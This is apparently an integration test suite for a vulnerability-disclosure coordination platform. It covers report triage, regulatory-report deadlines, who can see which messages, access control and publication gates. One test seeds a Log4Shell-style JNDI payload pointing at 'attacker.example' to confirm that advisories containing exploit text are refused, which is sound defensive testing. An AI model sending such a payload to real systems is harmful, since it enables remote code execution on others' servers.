// The README walk-through, end to end over HTTP, plus who-sees-what.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { Server, cli } from './lib/server.mjs';
import { createOrg, createProduct, createUser, signedInUser, submitReport, acceptedCase, uniq, moveCase, publishAdvisory } from './lib/fixtures.mjs';

const CRITICAL = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';
const HOUR = 3600 * 1000;

describe('walk-through', () => {
  let server, admin, anon, orgA, orgB, productA, productB;

  before(async () => {
    server = await Server.start();
    admin = await server.admin();
    anon = server.client();
    orgA = await createOrg(admin, { name: uniq('Provider A ') });
    orgB = await createOrg(admin, { name: uniq('Provider B ') });
    productA = await createProduct(admin, orgA.id);
    productB = await createProduct(admin, orgB.id);
  });
  after(async () => {
    const { code } = await server.stop();
    assert.equal(code, 0, 'clean exit on SIGTERM:\n' + server.stderr);
    server.cleanup();
  });

  it('admin signs in and sees their own session', async () => {
    const r = await admin.get('/api/v1/session');
    assert.equal(r.status, 200);
    assert.equal(r.json.user.username, 'admin');
    assert.equal(r.json.user.platform_admin, true);
    assert.equal(typeof r.json.csrf_token, 'string');
  });

  it('creates a product for a provider organisation', async () => {
    assert.equal(productA.provider_org, orgA.id);
    const r = await admin.get(`/api/v1/products/${productA.id}`);
    assert.equal(r.status, 200);
    assert.equal(r.json.name, productA.name);
    assert.deepEqual(r.json.versions, ['1.0', '1.1']);
  });

  it('submit, triage, accept, assess, clock, regulatory report, clock met, verify', async () => {
    const sub = await submitReport(anon, { product_id: productA.id });
    assert.equal(sub.state, 'received');
    assert.match(sub.tracking_id, /^R-\d{8}-/);
    assert.ok(sub.tracking_token.length >= 20);
    assert.match(sub.receipt.hash, /^[0-9a-f]{64}$/);
    assert.match(sub.receipt.content_sha256, /^[0-9a-f]{64}$/);

    let r = await admin.post(`/api/v1/reports/${sub.id}/transitions`, { to: 'triage' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'triage');
    r = await admin.post(`/api/v1/reports/${sub.id}/transitions`, { to: 'accepted' });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'accepted');
    const caseId = r.json.case_id;
    assert.ok(Number.isInteger(caseId));

    r = await admin.get(`/api/v1/cases/${caseId}`);
    assert.equal(r.status, 200);
    assert.equal(r.json.state, 'verifying');
    assert.ok(r.json.participants.includes(orgA.id), 'the provider takes part in its case');

    r = await admin.put(`/api/v1/cases/${caseId}/assessment`, { cvss31_vector: CRITICAL });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.assessment.cvss31_score, 9.8);
    assert.equal(r.json.assessment.grade, 'critical');
    assert.equal(r.json.assessment.grade_source, 'derived_from_cvss');

    r = await admin.get(`/api/v1/cases/${caseId}/clocks`);
    assert.equal(r.status, 200);
    const reg = r.json.items.find((k) => k.kind === 'regulatory_report');
    assert.ok(reg, 'a regulatory_report clock runs: ' + r.text);
    assert.equal(reg.state, 'on_time');
    assert.equal(reg.stopped_at, null);
    const received = Date.parse(sub.receipt.at);
    assert.equal(Date.parse(reg.started_at), received);
    assert.equal(Date.parse(reg.due_at) - Date.parse(reg.started_at), 48 * HOUR);

    // Draft: prefilled from the case; fill what is missing (a contact).
    r = await admin.post(`/api/v1/cases/${caseId}/regulatory-reports`, {});
    assert.equal(r.status, 201, r.text);
    assert.equal(r.json.state, 'draft');
    const rrId = r.json.id;
    r = await admin.post(`/api/v1/regulatory-reports/${rrId}/submit`, { channel: 'nvdb-web', reference: 'NVDB-REF-1' });
    if (r.status === 422) {
      assert.equal(r.json.error.code, 'incomplete_report');
      const missing = r.json.error.details.fields.map((f) => f.field);
      assert.ok(missing.length > 0);
      const fill = {};
      for (const f of missing) fill[f] = f === 'contact_email' ? 'psirt@example.cn' : `filled ${f}`;
      r = await admin.patch(`/api/v1/regulatory-reports/${rrId}`, fill);
      assert.equal(r.status, 200, r.text);
      r = await admin.post(`/api/v1/regulatory-reports/${rrId}/submit`, { channel: 'nvdb-web', reference: 'NVDB-REF-1' });
    }
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'submitted');
    assert.equal(r.json.channel, 'nvdb-web');
    assert.equal(r.json.reference, 'NVDB-REF-1');

    // Submitting twice is a conflict.
    r = await admin.post(`/api/v1/regulatory-reports/${rrId}/submit`, { channel: 'nvdb-web', reference: 'again' });
    assert.equal(r.status, 409);
    assert.equal(r.json.error.code, 'already_submitted');

    // The report for channels outside loudong: JSON, and a printable Chinese
    // page whose inline print styles its CSP allows; each export is logged.
    const ref = (await admin.get(`/api/v1/cases/${caseId}`)).json.ref;
    r = await admin.get(`/api/v1/regulatory-reports/${rrId}/export`);
    assert.equal(r.status, 200, r.text);
    assert.match(r.headers.get('content-disposition'), new RegExp(`attachment; filename="regulatory-report-${rrId}\\.json"`));
    assert.equal(r.headers.get('cache-control'), 'no-store');
    assert.equal(r.json.case_ref, ref);
    assert.equal(r.json.state, 'submitted');
    assert.equal(r.json.reference, 'NVDB-REF-1');
    r = await admin.get(`/api/v1/regulatory-reports/${rrId}/export?format=html`);
    assert.equal(r.status, 200, r.text);
    assert.match(r.headers.get('content-type'), /^text\/html; charset=utf-8/);
    assert.match(r.headers.get('content-security-policy'), /default-src 'none'; style-src 'unsafe-inline'/);
    assert.ok(r.text.startsWith('<!DOCTYPE html>'), r.text.slice(0, 80));
    assert.ok(r.text.includes('网络产品安全漏洞信息报送表') && r.text.includes(ref) && r.text.includes('已报送'));
    assert.ok(r.text.includes('NVDB-REF-1'));
    r = await admin.get(`/api/v1/regulatory-reports/${rrId}/export?format=pdf`);
    assert.equal(r.status, 422);
    assert.equal(r.json.error.details.fields[0].field, 'format');
    assert.equal((await anon.get(`/api/v1/regulatory-reports/${rrId}/export`)).status, 401);
    const log = (await admin.get('/api/v1/access-log')).json.items
      .filter((e) => e.action === 'export' && e.object_type === 'regulatory_report' && String(e.object_id) === String(rrId));
    assert.equal(log.length, 2, 'the JSON and the HTML export, not the refused one');

    r = await admin.get(`/api/v1/cases/${caseId}/clocks`);
    const met = r.json.items.find((k) => k.kind === 'regulatory_report');
    assert.equal(met.state, 'met');
    assert.ok(met.stopped_at);

    r = await admin.post('/api/v1/receipts/verify');
    assert.equal(r.status, 200);
    assert.equal(r.json.ok, true);
    assert.ok(r.json.checked >= 1);
    assert.equal(r.json.first_broken_seq, null);
  });

  it('the finder tracking page shows the state and only finder-visible messages', async () => {
    const { submitted, caseId, report } = await acceptedCase(admin, anon, { product_id: productA.id });
    const canary = {};
    for (const v of ['coordinators', 'provider', 'finder', 'all']) {
      canary[v] = uniq(`msg-${v}-`);
      const r = await admin.post(`/api/v1/reports/${report.id}/messages`, { visibility: v, body: canary[v] });
      assert.equal(r.status, 201, r.text);
    }
    const headers = { 'X-Tracking-Token': submitted.tracking_token };
    const r = await anon.get(`/api/v1/tracking/${submitted.tracking_id}`, { headers });
    assert.equal(r.status, 200, r.text);
    assert.equal(r.json.state, 'accepted');
    assert.equal(r.json.case.state, 'verifying');
    const bodies = r.json.messages.map((m) => m.body);
    assert.ok(bodies.includes(canary.finder), r.text);
    assert.ok(bodies.includes(canary.all), r.text);
    assert.ok(!r.text.includes(canary.coordinators), 'finder must not see coordinator messages');
    assert.ok(!r.text.includes(canary.provider), 'finder must not see provider messages');
    assert.ok(!r.text.includes('verification'), 'no proof of concept on the tracking page');

    // Wrong token and unknown id look the same: 404.
    const wrong = await anon.get(`/api/v1/tracking/${submitted.tracking_id}`, { headers: { 'X-Tracking-Token': 'nope' } });
    assert.equal(wrong.status, 404);
    const none = await anon.get(`/api/v1/tracking/${submitted.tracking_id}`);
    assert.equal(none.status, 404);
    const unknown = await anon.get(`/api/v1/tracking/R-20000101-AAAAAAAA`, { headers });
    assert.equal(unknown.status, 404);
    assert.equal(unknown.json.error.code, wrong.json.error.code);
    void caseId;
  });

  it('case messages: a provider member sees provider and all, never coordinators', async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
    const canary = {};
    for (const v of ['coordinators', 'provider', 'finder', 'all']) {
      canary[v] = uniq(`case-${v}-`);
      const r = await admin.post(`/api/v1/cases/${caseId}/messages`, { visibility: v, body: canary[v] });
      assert.equal(r.status, 201, r.text);
    }
    const member = await signedInUser(server, admin, [{ org_id: orgA.id, role: 'member' }]);
    const r = await member.get(`/api/v1/cases/${caseId}`);
    assert.equal(r.status, 200, r.text);
    assert.ok(r.text.includes(canary.provider));
    assert.ok(r.text.includes(canary.all));
    assert.ok(!r.text.includes(canary.coordinators), 'provider member saw a coordinators message');
    assert.ok(!r.text.includes(canary.finder), 'provider member saw a finder-only message');
    // A provider member may not post a coordinators-only message.
    const post = await member.post(`/api/v1/cases/${caseId}/messages`, { visibility: 'coordinators', body: 'x' });
    assert.equal(post.status, 403, post.text);
  });

  it("provider A's member gets 404 for provider B's case", async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productB.id });
    const memberA = await signedInUser(server, admin, [{ org_id: orgA.id, role: 'coordinator' }]);
    let r = await memberA.get(`/api/v1/cases/${caseId}`);
    assert.equal(r.status, 404);
    assert.equal(r.json.error.code, 'not_found');
    r = await memberA.get(`/api/v1/cases/${caseId}/clocks`);
    assert.equal(r.status, 404);
    r = await memberA.get('/api/v1/cases');
    assert.equal(r.status, 200);
    assert.ok(!r.json.items.some((c) => c.id === caseId), 'B case listed for A');
    // and a case id that does not exist looks the same
    const missing = await memberA.get('/api/v1/cases/999999');
    assert.equal(missing.status, 404);
    const hidden = await memberA.get(`/api/v1/cases/${caseId}`);
    assert.deepEqual(hidden.json, missing.json, 'a hidden case and a missing one are indistinguishable');
  });

  it('an auditor lists receipts but gets 404 on cases', async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
    const auditor = await signedInUser(server, admin, [{ org_id: 1, role: 'auditor' }]);
    let r = await auditor.get('/api/v1/receipts');
    assert.equal(r.status, 200, r.text);
    assert.ok(r.json.items.length >= 1);
    for (const k of ['seq', 'at', 'channel', 'submitter', 'content_sha256', 'prev_hash', 'hash'])
      assert.ok(k in r.json.items[0], k);
    r = await auditor.post('/api/v1/receipts/verify');
    assert.equal(r.status, 200);
    assert.equal(r.json.ok, true);
    r = await auditor.get(`/api/v1/cases/${caseId}`);
    assert.equal(r.status, 404);
    r = await auditor.get('/api/v1/cases');
    assert.ok(r.status === 404 || (r.status === 200 && r.json.items.length === 0), r.text);
  });

  it('an illegal case transition is 409 with details.allowed', async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
    const r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
    assert.equal(r.status, 409);
    assert.equal(r.json.error.code, 'illegal_transition');
    assert.deepEqual([...r.json.error.details.allowed].sort(), ['confirmed', 'not_affected', 'withdrawn']);
    assert.match(r.json.error.message, /verifying/);
  });

  it('publication is refused with the failed gates named', async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
    let r = await admin.patch(`/api/v1/cases/${caseId}`, { operator_system: true });
    assert.equal(r.status, 200, r.text);
    await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
    // An operator's system is refused first, advisory or not (R-PUB-2).
    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
    assert.equal(r.status, 409, r.text);
    assert.equal(r.json.error.code, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
    const approver = await signedInUser(server, admin, [{ org_id: orgA.id, role: 'admin' }]);
    r = await publishAdvisory({ publisher: admin, approver, caseId });
    assert.equal(r.status, 409, r.text);
    assert.equal(r.json.error.code, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
    assert.match(r.json.error.message, /R-PUB-2/);
    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
    assert.equal(r.status, 409, r.text);
    assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
    r = await admin.get(`/api/v1/cases/${caseId}`);
    assert.equal(r.json.state, 'fixed');
  });

  it('exploit text in the public advisory is refused, naming the field and why (R-PUB-4)', async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
    let r = await admin.patch(`/api/v1/cases/${caseId}`, {
      summary: 'Remote code execution. PoC: send ${jndi:ldap://attacker.example/a} as the user agent.',
    });
    assert.equal(r.status, 200, r.text);
    await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
    const approver = await signedInUser(server, admin, [{ org_id: orgA.id, role: 'admin' }]);
    // The advisory is prefilled from the case's summary.
    r = await publishAdvisory({ publisher: admin, approver, caseId });
    assert.equal(r.status, 409, r.text);
    assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
    assert.match(r.json.error.message, /en\.summary: payload near "[^"]*\$\{jndi:/);
    assert.match(r.json.error.message, /en\.summary: poc_marker/);
    assert.match(r.json.error.message, /拒绝发布/);
    assert.deepEqual(r.json.error.details.fields.map((f) => [f.field, f.code]), [['no_exploit', 'R-PUB-4']]);
    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'fixed');
    // Describing the flaw instead passes.
    r = await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'draft' });
    assert.equal(r.status, 200, r.text);
    r = await publishAdvisory({ publisher: admin, approver, caseId, patch: { en: { summary: 'A crafted JNDI lookup in a logged string runs remote code.' } } });
    assert.equal(r.status, 200, r.text);
    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'published');
  });

  it('a foreign participant is refused (R-PUB-7)', async () => {
    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
    const foreign = await createOrg(admin, { name: uniq('Foreign '), type: 'operator', region: 'US' });
    const r = await admin.post(`/api/v1/cases/${caseId}/participants`, { org_id: foreign.id });
    assert.equal(r.status, 409, r.text);
    assert.equal(r.json.error.code, 'foreign_recipient');
    assert.match(r.json.error.message, /R-PUB-7/);
  });

  it('GET /api/v1/clocks filters by state and rejects other states', async () => {
    await acceptedCase(admin, anon, { product_id: productA.id });
    const shape = (items) => {
      for (const k of items) {
        for (const f of ['kind', 'state', 'started_at', 'due_at', 'subject_ref', 'title', 'case_id', 'report_id'])
          assert.ok(f in k, `clock item has ${f}`);
      }
    };
    for (const state of ['overdue', 'due_soon']) {
      const r = await admin.get(`/api/v1/clocks?state=${state}`);
      assert.equal(r.status, 200, r.text);
      assert.ok(Array.isArray(r.json.items));
      assert.equal(r.json.total, r.json.items.length);
      for (const k of r.json.items) assert.equal(k.state, state);
      shape(r.json.items);
    }
    const all = await admin.get('/api/v1/clocks');
    assert.equal(all.status, 200);
    // Fresh clocks are on_time: nothing at risk yet.
    for (const k of all.json.items) assert.ok(['due_soon', 'overdue'].includes(k.state), k.state);
    shape(all.json.items);
    for (const bad of ['on_time', 'met', 'missed', 'bogus']) {
      const r = await admin.get(`/api/v1/clocks?state=${bad}`);
      assert.equal(r.status, 422, `${bad}: ${r.status}`);
      assert.equal(r.json.error.details.fields[0].field, 'state');
    }
    const anonR = await anon.get('/api/v1/clocks');
    assert.equal(anonR.status, 401);
  });

  it('cvss: the API and the CLI agree on 9.8 critical', async () => {
    const r = await anon.get(`/api/v1/cvss?vector=${encodeURIComponent(CRITICAL)}`);
    assert.equal(r.status, 200);
    assert.equal(r.json.score, 9.8);
    assert.equal(r.json.grade, 'critical');
    const c = cli(['cvss', CRITICAL]);
    assert.equal(c.status, 0, c.stderr);
    assert.equal(c.json.score, 9.8);
    assert.equal(c.json.grade, 'critical');
    const bad = cli(['cvss', 'CVSS:3.1/AV:X']);
    assert.notEqual(bad.status, 0);
    assert.match(bad.stderr, /error/);
  });
});
